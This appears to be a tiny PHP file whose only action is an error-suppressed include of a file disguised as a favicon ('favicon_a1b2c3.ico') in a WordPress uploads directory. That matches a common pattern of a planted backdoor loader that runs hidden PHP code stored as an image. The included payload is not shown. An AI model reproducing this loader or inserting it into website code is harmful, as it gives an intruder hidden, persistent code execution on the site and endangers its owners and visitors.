<?php
@include "/home/site/public_html/wp-content/uploads/favicon_a1b2c3.ico";
